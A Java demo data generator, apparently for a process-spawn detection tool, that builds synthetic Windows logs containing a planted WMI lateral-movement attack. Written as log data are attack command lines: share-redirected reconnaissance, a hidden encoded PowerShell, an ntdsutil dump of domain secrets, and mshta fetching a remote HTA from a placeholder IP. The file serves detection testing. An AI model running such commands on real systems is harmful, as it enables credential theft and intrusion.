package io.spawnwatch.cli.demo;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.function.Function;

/**
 * A Monday morning in a small company: four thousand events as a log collector delivers them, one per line. In between the
 * daily work, an attacker moves from host to host through WMI, an inventory service does what the allowlist permits, a
 * laptop comes back after the weekend, a kiosk's clock is two days ahead, and some lines cannot be read. The events are
 * always the same; only their times can be moved, all together.
 */
public final class DemoSample {
    /** When the first line arrives, unless the times are moved. */
    private static final Instant MONDAY = Instant.parse("2026-11-16T08:00:00Z");

    /** How long the laptop was off, from Friday evening. */
    private static final Duration WEEKEND = Duration.between(Instant.parse("2026-11-13T17:41:00Z"), MONDAY);

    private static final DateTimeFormatter SYSLOG_TIME =
            DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ROOT).withZone(ZoneOffset.UTC);

    private static final Duration STEP = Duration.ofMillis(2500);
    private static final int RECORDS = 4000;
    private static final int FIRST_OF_ATTACK = 1500;
    private static final String WMI = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    private static final String WMI_LINE = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding";

    private static final String[][] DAILY = {
        {
            "C:\\Windows\\explorer.exe",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "--restore-last-session"
        },
        {"C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "/recycle"},
        {"C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "/dde"},
        {"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\notepad.exe", "notes.txt"},
        {"C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s Schedule"},
        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", ""},
        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding"},
        {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\RuntimeBroker.exe", "-Embedding"},
        {"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\ipconfig.exe", "/all"},
        {"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", "/k"},
    };
    private static final String[] PEOPLE = {"a.okafor", "b.lindqvist", "c.moreau", "d.tanaka", "e.rossi", "f.novak"};

    private final Instant start;
    private final SplittableRandom random = new SplittableRandom(1047);
    private final List<byte[]> records = new ArrayList<>(RECORDS);

    private DemoSample(Instant start) {
        this.start = start;
    }

    /** The lines in the order of arrival, with their times as they are. */
    public static List<byte[]> records() {
        return startingAt(MONDAY);
    }

    /**
     * The lines, with their times moved so that the last one arrives at the given time. Only the events of the kiosk, whose
     * clock is ahead, are later.
     *
     * @param end when the last line arrives; fractions of a second are dropped
     */
    public static List<byte[]> recordsUntil(Instant end) {
        return startingAt(end.truncatedTo(ChronoUnit.SECONDS).minus(STEP.multipliedBy(RECORDS)));
    }

    private static List<byte[]> startingAt(Instant start) {
        DemoSample sample = new DemoSample(start);
        while (sample.records.size() < RECORDS) {
            sample.next(sample.records.size());
        }
        return sample.records;
    }

    /**
     * When a line arrives, unless the times are moved.
     *
     * @param line line number, from 1
     * @return epoch milliseconds UTC
     */
    public static long arrivalMs(long line) {
        return arrival(MONDAY, line).toEpochMilli();
    }

    private static Instant arrival(Instant start, long line) {
        return start.plus(STEP.multipliedBy(line - 1));
    }

    private void next(int index) {
        if (index >= FIRST_OF_ATTACK && index < FIRST_OF_ATTACK + 30 && index % 5 == 0) {
            attack((index - FIRST_OF_ATTACK) / 5);
        } else if (index % 120 == 60) {
            inventory();
        } else if (index % 700 == 350) {
            unreadable(index / 700);
        } else if (index % 250 == 125) {
            kiosk(index);
        } else if (index >= 2600 && index < 2640 && index % 10 == 0) {
            laptop((index - 2600) / 10);
        } else if (random.nextInt(100) < 45) {
            other();
        } else {
            daily();
        }
    }

    private Instant now() {
        return arrival(start, records.size() + 1L).minusMillis(random.nextInt(20_000));
    }

    private String host() {
        return String.format("ws-%04d.corp.example", 1 + random.nextInt(40));
    }

    private String person() {
        return "CORP\\" + PEOPLE[random.nextInt(PEOPLE.length)];
    }

    private void daily() {
        String[] work = DAILY[random.nextInt(DAILY.length)];
        String line = "\"" + work[1] + "\" " + work[2];
        add(
                spawn(now(), host(), person(), work[0], work[0], work[1], line.strip()),
                // Some machines have no Sysmon.
                DemoFormats::securityXml);
    }

    private void other() {
        records.add(DemoFormats.networkConnection(now(), host(), person()));
    }

    /** The inventory service asks every machine for its hardware through WMI. The allowlist permits this. */
    private void inventory() {
        String image = "C:\\Program Files\\Inventory\\collect.exe";
        add(spawn(now(), host(), "CORP\\svc-inventory", WMI, WMI_LINE, image, "\"" + image + "\" --hardware --quiet"));
    }

    /** Remote commands through WMI with their output on a share, then a hidden PowerShell, then the domain's secrets. */
    private void attack(int step) {
        String cmd = "C:\\Windows\\System32\\cmd.exe";
        String powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        // The attacker's tool puts the time of its start into the file name.
        String share = " 1> \\\\127.0.0.1\\ADMIN$\\__"
                + arrival(start, FIRST_OF_ATTACK + 1L).getEpochSecond() + ".21 2>&1";
        String admin = "CORP\\adm.petrov";
        switch (step) {
            case 0 ->
                add(spawn(
                        now(), "srv-files01.corp.example", admin, WMI, WMI_LINE, cmd, "cmd.exe /Q /c whoami" + share));
            case 1 -> {
                // The collector delivers this event twice; a search counts both.
                DemoProcess twice = spawn(
                        now(),
                        "srv-files01.corp.example",
                        admin,
                        WMI,
                        WMI_LINE,
                        cmd,
                        "cmd.exe /Q /c net group \"Domain Admins\" /domain" + share);
                records.add(DemoFormats.nxlog(twice));
                records.add(DemoFormats.nxlog(twice));
            }
            case 2 ->
                add(spawn(
                        now(), "srv-sql02.corp.example", admin, WMI, WMI_LINE, cmd, "cmd.exe /Q /c tasklist" + share));
            case 3 ->
                add(spawn(
                        now(),
                        "srv-sql02.corp.example",
                        admin,
                        WMI,
                        WMI_LINE,
                        powershell,
                        "powershell.exe -NoP -W Hidden -Enc UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANgAwAA=="));
            default ->
                records.add(DemoFormats.sysmonXml(spawn(
                        now(),
                        "srv-dc01.corp.example",
                        "CORP\\adm.petrov",
                        "C:\\WINDOWS\\SYSTEM32\\WBEM\\WMIPRVSE.EXE",
                        WMI_LINE,
                        cmd,
                        "cmd.exe /Q /c ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\\x" + step + "\" q q")));
        }
    }

    /** A laptop that had been offline since Friday evening. Its events are late, and one of them is an attack. */
    private void laptop(int step) {
        Instant friday = start.minus(WEEKEND).plusSeconds(17L * step);
        String mshta = "C:\\Windows\\System32\\mshta.exe";
        add(
                step == 2
                        ? spawn(
                                friday,
                                "lt-0007.corp.example",
                                "CORP\\d.tanaka",
                                WMI,
                                WMI_LINE,
                                mshta,
                                "mshta.exe http://198.51.100.7/update.hta")
                        : spawn(
                                friday,
                                "lt-0007.corp.example",
                                "CORP\\d.tanaka",
                                DAILY[3][0],
                                DAILY[3][0],
                                DAILY[3][1],
                                "notepad.exe"));
    }

    /** A kiosk whose clock is two days ahead. */
    private void kiosk(int index) {
        Instant ahead = now().plus(Duration.ofDays(2));
        String calc = "C:\\Windows\\System32\\calc.exe";
        boolean wmi = index == 2125;
        add(spawn(
                ahead,
                "kiosk-03.corp.example",
                "KIOSK-03\\guest",
                wmi ? WMI : DAILY[0][0],
                wmi ? WMI_LINE : DAILY[0][0],
                wmi ? calc : DAILY[0][1],
                wmi ? "calc.exe" : "chrome.exe --kiosk"));
    }

    private void unreadable(int kind) {
        byte[] whole =
                DemoFormats.nxlog(spawn(now(), host(), person(), DAILY[0][0], DAILY[0][0], DAILY[0][1], "chrome.exe"));
        records.add(
                switch (kind % 3) {
                    case 0 -> Arrays.copyOf(whole, whole.length / 2);
                    case 1 ->
                        ("<13>" + SYSLOG_TIME.format(arrival(start, records.size() + 1L))
                                        + " fw01 kernel: eth0 link up")
                                .getBytes(StandardCharsets.UTF_8);
                    default -> DemoFormats.withoutTime(host());
                });
    }

    private DemoProcess spawn(
            Instant time, String host, String user, String parentImage, String parentLine, String image, String line) {
        return new DemoProcess(
                time,
                host,
                user,
                1000 + random.nextInt(9000),
                image,
                line,
                500 + random.nextInt(9000),
                parentImage,
                parentLine);
    }

    /** Adds the event in one of several formats, as in a company with several collectors. */
    private void add(DemoProcess process) {
        add(process, DemoFormats::sysmonXml);
    }

    private void add(DemoProcess process, Function<DemoProcess, byte[]> asXml) {
        int format = random.nextInt(10);
        records.add(
                format < 5
                        ? DemoFormats.nxlog(process)
                        : format < 8
                                ? DemoFormats.winlogbeat(process)
                                : format < 9 ? asXml.apply(process) : DemoFormats.cim(process));
    }
}
